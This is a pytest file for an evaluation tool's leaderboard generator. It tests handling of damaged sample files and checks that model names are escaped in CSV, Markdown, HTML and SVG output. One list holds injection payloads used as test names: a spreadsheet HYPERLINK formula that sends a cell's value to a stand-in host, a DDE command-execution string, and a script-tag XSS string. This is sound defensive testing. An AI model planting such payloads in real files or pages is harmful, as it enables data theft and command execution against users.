"""Leaderboard rows come from one source, and every writer treats names as hostile.

The runs are the session's real CLI runs (tests/reports_fixtures.py), copied and then cut,
broken or renamed the way a copy that stopped, a bad disk or a hostile model name would.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest

from lm_eval_mathjudge.__main__ import main
from lm_eval_mathjudge.core import stats
from tests.reports_fixtures import three_runs

TASK = "gsm8k_gpt4em"
METRIC = "gpt4_exact_match"


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    return three_runs(tmp_path_factory)


def _copy(runs, model: str, dest: Path, name: str, value: float | None = None) -> Path:
    shutil.copytree(runs.run_dir(model), dest)
    results = next(dest.rglob("results_*.json"))
    data = json.loads(results.read_text())
    data["model_name"] = name
    if value is not None:  # a results file that disagrees with its own samples
        data["results"][TASK][f"{METRIC},none"] = value
    results.write_text(json.dumps(data))
    return dest


def _results(run: Path) -> dict:
    return json.loads(next(run.rglob("results_*.json")).read_text())


def _board(tmp_path: Path, *run_dirs: Path) -> tuple[list[dict], str, str]:
    out = tmp_path / "board"
    assert main(["leaderboard", *map(str, run_dirs), "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(_csv_text(out))))
    return rows, _text(out / "leaderboard.md"), _text(out / "leaderboard.html")


def _text(path: Path) -> str:
    with open(path, encoding="utf-8", newline="") as fh:  # a CR inside a name stays a CR
        return fh.read()


def _csv_text(out: Path) -> str:
    return _text(out / "leaderboard.csv")


def _cut(path: Path, lines: int, mid_record: bool) -> None:
    kept = path.read_text().splitlines(keepends=True)
    tail = kept[lines][: len(kept[lines]) // 2] if mid_record else ""
    path.write_text("".join(kept[:lines]) + tail)


@pytest.mark.e2e
@pytest.mark.parametrize("damage, why", [
    ("cut-mid-record", "is incomplete (cut at line 41: 40 of 100 samples)"),
    ("cut-at-a-line", "is incomplete (40 of 100 samples)"),
    ("not-utf8", "is unreadable ("),
    ("bad-json-inside", "is unreadable ("),
])
def test_a_damaged_samples_file_gives_the_results_files_row_with_a_note(runs, tmp_path, damage, why):
    top = _copy(runs, "gpt3-fixed", tmp_path / "top", "top")
    damaged = _copy(runs, "gpt3-verifier", tmp_path / "damaged", "damaged")
    samples = next(damaged.rglob(f"samples_{TASK}_*.jsonl"))
    if damage.startswith("cut"):
        _cut(samples, 40, mid_record=damage == "cut-mid-record")
    else:
        lines = samples.read_bytes().splitlines(keepends=True)
        lines[9] = lines[9][:40] + b"\xe9" + lines[9][40:] if damage == "not-utf8" else b'{"doc_id": 9, "doc"\n'
        samples.write_bytes(b"".join(lines))
    value, stderr = (_results(damaged)["results"][TASK][f"{METRIC}{k},none"] for k in ("", "_stderr"))

    rows, md, html_page = _board(tmp_path, top, damaged)
    row = next(r for r in rows if r["model"] == "damaged" and r["metric"] == METRIC)
    low, high = stats.normal_interval(value, stderr)
    assert (float(row["value"]), int(row["n"])) == (pytest.approx(0.58), 100)  # all from the results file ...
    assert (float(row["ci_low"]), float(row["ci_high"]), row["ci_method"]) == (
        pytest.approx(low), pytest.approx(high), "normal")  # ... with lm-eval's stderr interval
    assert row["p_value"] == row["diff_vs_top"] == ""  # no paired test on a partial file
    note = f"damaged on {TASK}: its samples file"
    assert note in md and why in md and "come from the results file" in md
    assert "its samples file" in html_page and why.split(" (")[0] in html_page


@pytest.mark.e2e
def test_complete_samples_decide_value_n_and_interval_together(runs, tmp_path):
    """A results file that disagrees with its complete samples: the row is the samples' (58 of 100)."""
    top = _copy(runs, "gpt3-fixed", tmp_path / "top", "top")
    run = _copy(runs, "gpt3-verifier", tmp_path / "edited", "edited", value=0.99)
    rows, md, _ = _board(tmp_path, top, run)
    row = next(r for r in rows if r["model"] == "edited" and r["metric"] == METRIC)
    assert (float(row["value"]), int(row["n"]), row["ci_method"]) == (0.58, 100, "wilson")
    assert (float(row["ci_low"]), float(row["ci_high"])) == pytest.approx(stats.wilson_interval(58, 100))
    assert row["p_value"] != ""  # the paired test uses the same samples
    assert "incomplete" not in md and "unreadable" not in md


HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "<script>alert(1)</script>", "+cmd|' /C calc'!A0",
           "@SUM(1+1)", "-2+3", "\t=1", "\r=1", "pipe|name\\|end & <b>bold</b> $\\frac{$"]


class _Page(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.cells, self._cell = [], [], None

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag == "td":
            self._cell = []

    def handle_endtag(self, tag):
        if tag == "td" and self._cell is not None:
            self.cells.append("".join(self._cell))
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def _unescaped_pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)(?:\\\\)*\|", line))


@pytest.mark.e2e
def test_hostile_model_names_are_text_in_every_output(runs, tmp_path):
    run_dirs = [_copy(runs, "gpt3-verifier", tmp_path / f"run{i}", name) for i, name in enumerate(HOSTILE)]
    rows, md, html_page = _board(tmp_path, *run_dirs)
    out = tmp_path / "board"

    # CSV: a spreadsheet shows every name as text; only our own numbers may start with "-".
    shown = {("'" + n if n[0] in "=+-@\t\r" else n).replace("\r", " ") for n in HOSTILE}
    assert {r["model"] for r in rows} == shown
    for cell in (c for line in csv.reader(io.StringIO(_csv_text(out))) for c in line):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # a number we wrote, never a formula

    # Markdown: no raw HTML, and every table line has as many cells as its header.
    assert "<script>" not in md and "<b>" not in md and "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    table = [line for line in md.splitlines() if line.startswith("|")]
    assert len({_unescaped_pipes(line) for line in table}) == 1 and len(table) == 2 + len(HOSTILE)

    # HTML and SVG: the names are text nodes, no element of theirs.
    page = _Page()
    page.feed(html_page)
    assert "script" not in page.tags and "b" not in page.tags
    for name in HOSTILE:
        assert name in page.cells
    svg = ET.fromstring((out / "leaderboard.svg").read_text())
    assert not [e for e in svg.iter() if e.tag.endswith(("script", "foreignObject"))]
    texts = {e.text for e in svg.iter() if e.tag.endswith("text")}
    assert {n.replace("\r", "\n") for n in HOSTILE} <= texts  # XML reads a CR as a line end
    assert (out / "leaderboard.png").stat().st_size > 1000  # a "$" in a name does not break the chart
